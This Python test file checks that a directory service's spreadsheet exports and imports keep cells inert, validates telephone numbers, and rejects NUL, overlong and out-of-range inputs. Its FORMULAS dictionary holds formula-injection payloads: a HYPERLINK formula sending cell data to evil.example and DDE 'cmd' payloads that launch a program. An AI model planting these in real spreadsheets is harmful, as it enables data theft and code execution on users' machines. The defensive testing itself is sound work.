"""Input is data, never code, and bad input is a clear error, never a 500 (SPEC §3.1, §4):
spreadsheets chaingate writes hold inert string cells, telephones are phone numbers, ids
past the key range are unknown objects, strings with NUL or past their cap are BAD_REQUEST,
and no log line carries a whole client-sized value. Through HTTP, on SQLite and PostgreSQL.
"""

from __future__ import annotations

import io
import json
import logging
import re
import sys
from datetime import date
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from flows.spreadsheets import FORMULA_TRIGGERS, inert_text, strip_inert_quote
from gql.protection.arguments import MAX_SEARCH_TERM, MAX_STRING
from gql.relay import MAX_PK
from models import Member
from observability.logs import MAX_LOG_EXCEPTION, json_formatter
from tests import factories as f
from tests.flows.test_directory_import import counts, finished, upload

CREATE_MEMBER = """
mutation($input: CreateMemberInput!) { createMember(input: $input) {
  member { id telephone } userErrors { code field message } } }"""
UPDATE_MEMBER = """
mutation($input: UpdateMemberInput!) { updateMember(input: $input) {
  member { id telephone } userErrors { code field message } } }"""
UPDATE_MY_PROFILE = """
mutation($input: ProfileChanges!) { updateMyProfile(input: $input) {
  member { id telephone } userErrors { code field message } } }"""
SEARCH = """
query($corp: ID!, $q: String!) { node(id: $corp) { ... on Corp { searchMembers(query: $q) { totalCount } } } }"""
NODE = "query($id: ID!) { node(id: $id) { id } }"
CORP = "query($id: ID!) { corp(id: $id) { id } }"
RESIGN = "mutation($id: ID!) { resignMember(input: {id: $id}) { member { id } userErrors { code field } } }"
PREVIEW = "query($code: String!) { previewJoin(code: $code) { preview { chainName } userErrors { code field } } }"

# Values a spreadsheet would run as formulas, each from a real injection write-up.
FORMULAS = {
    "position": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "alias": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address": "-2+3+cmd|' /C calc'!A0",
}


async def world() -> dict[str, Any]:
    c, root = await f.corp()
    sales = await f.unit(root, "销售部")
    boss = await f.super_admin(root)
    return {"corp": c, "root": root, "sales": sales, "boss": boss, "t": f.token(boss)}


def cells(content: bytes) -> list[list[Any]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


# --- 3. Spreadsheets are data, never code ----------------------------------------------


async def test_exported_cells_are_inert_strings_and_the_export_reimports_unchanged(client, gql):
    w = await world()
    created = await gql.ok(CREATE_MEMBER, {"input": {
        "corpId": f.gid("Corp", w["corp"].id), "account": "inject", "name": "'=已是引号", "unitIds": [f.gid("OrgUnit", w["sales"].id)],
        "mobile": "+8613900000000", "telephone": "+86 21 1234 5678", "birthday": "1990-01-02", **FORMULAS,
    }}, w["t"])
    assert created["createMember"]["userErrors"] == []
    before = {m.account: m for m in await Member.filter(corp_id=w["corp"].id)}

    response = await client.get(f"/corps/{w['corp'].id}/directory.xlsx", headers={"Authorization": f"Bearer {w['t']}"})
    assert response.status_code == 200
    rows = cells(response.content)
    assert all(c.data_type == "s" for row in rows for c in row if c.value is not None)
    header = [c.value for c in rows[0]]
    [row] = [r for r in rows if r[header.index("账号")].value == "inject"]
    value = {h: c for h, c in zip(header, row, strict=True)}
    # OWASP: a leading quote before anything that could start a formula...
    assert value["职位"].value == "'" + FORMULAS["position"]
    assert value["别名"].value == "'" + FORMULAS["alias"]
    assert value["地址"].value == "'" + FORMULAS["address"]
    assert value["姓名"].value == "''=已是引号"  # a value's own leading quote survives the reader
    # ...but a plain international number stays as it is: a string cell marked as text.
    assert value["手机"].value == "+8613900000000" and value["手机"].quotePrefix
    assert value["电话"].value == "+86 21 1234 5678" and value["电话"].quotePrefix
    assert value["生日"].value == "1990-01-02"

    result = await upload(client, w["t"], w["corp"].id, "export.xlsx", response.content)
    job = await finished(gql, w["t"], result["job"]["id"])
    assert job["errors"] == [] and counts(job)["unchanged"] == len(before) and counts(job)["updated"] == 0
    after = {m.account: m for m in await Member.filter(corp_id=w["corp"].id)}
    for attr in ("name", "alias", "mobile", "telephone", "position", "address", "birthday"):
        assert getattr(after["inject"], attr) == getattr(before["inject"], attr), attr


async def test_the_error_report_repeats_original_cells_inert(client, gql):
    w = await world()
    # A CSV: what a spreadsheet program writes holds formulas as formulas, a CSV holds text.
    content = "姓名,账号,手机,电话,职位\n" f'坏电话,badtel,13800138000,=2+3,"{FORMULAS["position"].replace(chr(34), chr(34) * 2)}"\n' "好,good,13800138001,021-12345678,@cmd\n"
    result = await upload(client, w["t"], w["corp"].id, "bad.csv", content.encode(), mode="CREATE")
    job = await finished(gql, w["t"], result["job"]["id"])
    assert [(e["row"], e["column"], e["code"]) for e in job["errors"]] == [(2, "电话", "INVALID_TELEPHONE")]

    response = await client.get(job["reportUrl"], headers={"Authorization": f"Bearer {w['t']}"})
    assert response.status_code == 200
    rows = cells(response.content)
    assert all(c.data_type == "s" for row in rows for c in row if c.value is not None)
    assert [c.value for c in rows[1]][:5] == ["坏电话", "badtel", "13800138000", "'=2+3", "'" + FORMULAS["position"]]
    assert rows[1][5].value == "2" and rows[1][6].value.startswith("INVALID_TELEPHONE")  # 原行号 row, then the reason

    # Imported again (less its row and reason columns), the report gives the same verdict: the
    # reader dropped the quotes the writer added.
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    book.active.delete_cols(6, 2)
    out = io.BytesIO()
    book.save(out)
    again = await upload(client, w["t"], w["corp"].id, "report.xlsx", out.getvalue(), mode="CREATE")
    job = await finished(gql, w["t"], again["job"]["id"])
    assert [(e["row"], e["column"], e["code"]) for e in job["errors"]] == [(2, "电话", "INVALID_TELEPHONE")]


@given(st.text())
def test_the_reader_gets_back_exactly_what_the_writer_made_inert(value: str) -> None:
    written = inert_text(value)
    assert strip_inert_quote(written) == value
    assert not written.startswith(FORMULA_TRIGGERS) or re.fullmatch(r"\+[0-9][0-9 ]*", written)


async def test_telephone_must_be_a_phone_number(client, gql):
    w = await world()
    me = await f.member([w["sales"]])
    corp, unit = f.gid("Corp", w["corp"].id), f.gid("OrgUnit", w["sales"].id)

    def create(telephone: str) -> dict[str, Any]:
        return {"input": {"corpId": corp, "account": f"t{abs(hash(telephone))}", "name": "座机",
                          "unitIds": [unit], "email": "t@x.cn", "telephone": telephone}}

    for bad in ("=2+3", "1", "1234567", "call me", "+2+3", "021-12345678 转 分机"):
        refused = (await gql.ok(CREATE_MEMBER, create(bad), w["t"]))["createMember"]
        assert [(e["code"], e["field"]) for e in refused["userErrors"]] == [("INVALID_TELEPHONE", "telephone")], bad
        refused = (await gql.ok(UPDATE_MEMBER, {"input": {"id": f.gid("Member", me.id), "telephone": bad}}, w["t"]))
        assert [e["code"] for e in refused["updateMember"]["userErrors"]] == ["INVALID_TELEPHONE"], bad
        refused = await gql.ok(UPDATE_MY_PROFILE, {"input": {"telephone": bad}}, f.token(me))
        assert [e["code"] for e in refused["updateMyProfile"]["userErrors"]] == ["INVALID_TELEPHONE"], bad
    assert (await Member.get(id=me.id)).telephone is None

    for good in ("021-12345678", "0755-8888 8888 转 123", "+86 21 1234 5678", "(010) 12345678 ext. 12", "13800138000",
                 "8001"):
        made = (await gql.ok(CREATE_MEMBER, create(good), w["t"]))["createMember"]
        assert made["userErrors"] == [] and made["member"]["telephone"] == good
    too_long = (await gql.ok(CREATE_MEMBER, create("021-12345678 转 1" + "2" * 30), w["t"]))["createMember"]
    assert [e["code"] for e in too_long["userErrors"]] == ["TOO_LONG"]

    rows = [{"name": "导入座机", "account": "imptel", "email": "i@x.cn", "telephone": "=2+3"}]
    data = await gql.ok("""mutation($input: ImportDirectoryInput!) { importDirectory(input: $input) { job { id } } }""",
                        {"input": {"corpId": corp, "rows": rows}}, w["t"])
    job = await finished(gql, w["t"], data["importDirectory"]["job"]["id"])
    assert [(e["column"], e["code"]) for e in job["errors"]] == [("telephone", "INVALID_TELEPHONE")]


# --- 6. Bad input is a clear error, never a 500 ------------------------------------------


OUT_OF_RANGE = [str(MAX_PK + 1), str(2**63), str(2**70), "-1", "0", "007", " 7", "+7", "7_0", "٧", "1e3"]


async def test_ids_past_the_key_range_are_unknown_objects_everywhere(client, gql):
    w = await world()
    auth = {"Authorization": f"Bearer {w['t']}"}
    for node_id in OUT_OF_RANGE:
        for type_name in ("Corp", "Member", "OrgUnit", "ChainSpace", "ImportJob", "AuditEvent"):
            gid = f.gid(type_name, node_id)  # type: ignore[arg-type]
            assert await gql.ok(NODE, {"id": gid}, w["t"]) == {"node": None}, (type_name, node_id)
        assert await gql.ok(CORP, {"id": f.gid("Corp", node_id)}, w["t"]) == {"corp": None}  # type: ignore[arg-type]
        resigned = await gql.ok(RESIGN, {"id": f.gid("Member", node_id)}, w["t"])  # type: ignore[arg-type]
        assert resigned["resignMember"] == {"member": None, "userErrors": [{"code": "NOT_FOUND", "field": "id"}]}
        for path in (f"/corps/{node_id}/directory.xlsx", f"/imports/{node_id}/errors.xlsx"):
            response = await client.get(path, headers=auth)
            assert response.status_code == 404, (path, response.text)
    for code in ("x" * 65, "%00", "a%00b"):
        response = await client.get(f"/invitations/{code}/qr.png")
        assert response.status_code == 404, code
    person = f.person_token(f.unique_mobile())
    preview = await gql.ok(PREVIEW, {"code": "x" * 65}, person)
    assert preview["previewJoin"]["userErrors"] == [{"code": "NOT_FOUND", "field": "code"}]
    assert refusal(await gql(PREVIEW, {"code": "a\x00b"}, person)) == ("BAD_REQUEST", "Query.previewJoin(code)")


def refusal(body: dict[str, Any]) -> tuple[str, str]:
    [error] = body["errors"]
    assert body.get("data") is None
    return error["extensions"]["code"], error["extensions"]["argument"]


async def test_nul_and_overlong_strings_are_bad_requests_naming_the_argument(gql):
    w = await world()
    corp = f.gid("Corp", w["corp"].id)
    assert refusal(await gql(SEARCH, {"corp": corp, "q": "张\x00三"}, w["t"])) == ("BAD_REQUEST", "Corp.searchMembers(query)")
    assert refusal(await gql(SEARCH, {"corp": corp, "q": "z" * (MAX_SEARCH_TERM + 1)}, w["t"])) == (
        "BAD_REQUEST", "Corp.searchMembers(query)")
    assert (await gql.ok(SEARCH, {"corp": corp, "q": "z" * MAX_SEARCH_TERM}, w["t"]))["node"]["searchMembers"] == {"totalCount": 0}
    # A literal in the document, written with GraphQL's own escape.
    literal = 'query($c: ID!) { node(id: $c) { ... on Corp { searchMembers(query: "a\\u0000b") { totalCount } } } }'
    assert refusal(await gql(literal, {"c": corp}, w["t"])) == ("BAD_REQUEST", "Corp.searchMembers(query)")
    # Inside an input object, and inside a list inside one.
    member = {"corpId": corp, "account": "nul", "name": "空\x00字", "unitIds": [f.gid("OrgUnit", w["sales"].id)], "email": "n@x.cn"}
    assert refusal(await gql(CREATE_MEMBER, {"input": member}, w["t"])) == ("BAD_REQUEST", "Mutation.createMember(input).name")
    member = {**member, "name": "好名字", "unitIds": ["T3JnVW5pdDox\x00"]}
    assert refusal(await gql(CREATE_MEMBER, {"input": member}, w["t"])) == ("BAD_REQUEST", "Mutation.createMember(input).unitIds")
    member = {**member, "unitIds": [f.gid("OrgUnit", w["sales"].id)], "address": "路" * (MAX_STRING + 1)}
    body = await gql(CREATE_MEMBER, {"input": member}, w["t"])
    assert refusal(body) == ("BAD_REQUEST", "Mutation.createMember(input).address")
    assert "路路路" not in json.dumps(body, ensure_ascii=False)  # the value is never echoed
    # Under the global cap, a field's own rule answers with its own code.
    member = {**member, "address": None, "name": "名" * 9000}
    made = (await gql.ok(CREATE_MEMBER, {"input": member}, w["t"]))["createMember"]
    assert [e["code"] for e in made["userErrors"]] == ["INVALID_NAME"]
    assert await Member.filter(corp_id=w["corp"].id, account="nul").count() == 0


@pytest.fixture
def all_logs() -> Any:
    """Every log record of the process, as the server writes it (the production JSON formatter)."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(json_formatter())
    handler.setLevel(logging.DEBUG)
    root = logging.getLogger()
    level = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    try:
        yield stream
    finally:
        root.removeHandler(handler)
        root.setLevel(level)


async def test_a_900_kb_search_is_refused_and_never_written_to_the_log(gql, all_logs, caplog):
    caplog.set_level(logging.DEBUG)
    w = await world()
    needle = "泄露" * 150_000  # 300 000 characters, 900 KB of UTF-8
    body = await gql(SEARCH, {"corp": f.gid("Corp", w["corp"].id), "q": needle}, w["t"])
    assert refusal(body) == ("BAD_REQUEST", "Corp.searchMembers(query)")
    assert "泄露" * 50 not in all_logs.getvalue()
    assert "泄露" * 50 not in caplog.text


def test_a_log_line_never_carries_a_whole_client_sized_value() -> None:
    formatter = json_formatter()
    needle = "x" * 900_000
    try:
        raise ValueError(f"Length of '{needle}' 900000 > 64")
    except ValueError:
        record = logging.LogRecord("chaingate.errors", logging.ERROR, __file__, 1, "internal error: %s", (needle,), None)
        record.exc_info = sys.exc_info()
    line = json.loads(formatter.format(record))
    assert len(line["event"]) < 5000 and line["event"].startswith("internal error: xxx")
    assert len(line["exception"]) <= MAX_LOG_EXCEPTION + 100 and line["exception"].rstrip().endswith("> 64")
    assert needle not in json.dumps(line)


async def test_a_cell_stored_before_the_telephone_rule_reimports_unchanged(client, gql):
    w = await world()
    legacy = await f.member([w["sales"]], telephone="内线 8001", birthday=date(1990, 1, 2))
    response = await client.get(f"/corps/{w['corp'].id}/directory.xlsx", headers={"Authorization": f"Bearer {w['t']}"})
    result = await upload(client, w["t"], w["corp"].id, "export.xlsx", response.content)
    job = await finished(gql, w["t"], result["job"]["id"])
    assert job["errors"] == [] and counts(job)["updated"] == 0
    assert (await Member.get(id=legacy.id)).telephone == "内线 8001"


async def test_a_nul_in_an_imported_file_is_a_row_or_file_error_not_a_crash(client, gql):
    w = await world()
    cells_with_nul = "姓名,账号,邮箱,职位,部门\n甲,jia,a@x.cn,a\x00b,销售\n乙,yi,b@x.cn,ok,销\x00售\n丙,bing,c@x.cn,ok,销售\n"
    result = await upload(client, w["t"], w["corp"].id, "nul.csv", cells_with_nul.encode())
    job = await finished(gql, w["t"], result["job"]["id"])
    assert job["status"] == "SUCCEEDED" and counts(job)["created"] == 1
    assert [(e["row"], e["column"], e["code"]) for e in job["errors"]] == [(2, "职位", "NUL_CHARACTER"), (3, "部门", "NUL_CHARACTER")]
    report = await client.get(job["reportUrl"], headers={"Authorization": f"Bearer {w['t']}"})
    assert report.status_code == 200 and "\ufffd" in cells(report.content)[1][3].value

    result = await upload(client, w["t"], w["corp"].id, "header.csv", "姓名,账号,邮箱,职\x00位\n甲,jia2,a@x.cn,a\n".encode())
    job = await finished(gql, w["t"], result["job"]["id"])
    assert job["status"] == "FAILED" and [e["code"] for e in job["errors"]] == ["NUL_CHARACTER"]
